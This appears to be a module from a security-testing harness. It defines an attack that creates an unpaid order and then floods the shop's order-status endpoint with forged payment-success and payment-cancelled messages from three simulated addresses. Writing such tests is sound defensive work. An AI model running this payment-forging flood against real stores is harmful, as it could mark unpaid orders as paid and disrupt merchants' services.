import { type Attack, laptop, providerOf } from '../attack.ts'
import { orderOverHttp } from '../order-over-http.ts'

const addresses = 3

/** One unpaid order with attempts at each provider, and an endless stream of hints that it was paid, from three addresses. */
export const floodHints: Attack = async ({ target, visitor, repeat }) => {
  const owner = visitor(0)
  const { orderId, reference } = await orderOverHttp(owner, {
    productId: target.productIds[0] ?? '',
    provider: providerOf(0),
  })
  for (const n of [1, 2, 0, 1]) {
    await owner.ask(`/api/v1/orders/${orderId}/payments`, { method: 'POST', body: { paymentGateway: providerOf(n) } })
  }
  const headers = { cookie: owner.cookie() }
  await repeat(laptop(), async (n) => {
    const accomplice = visitor(n % addresses)
    if (n % 10 === 0) return accomplice.ask(`/payment-return/${reference}`, { headers })
    const body = { orderId, action: n % 2 ? 'payment_success' : 'payment_cancelled', isGuestOrder: true }
    return accomplice.ask('/functions/v1/update-order-status', { method: 'POST', body, headers })
  })
}
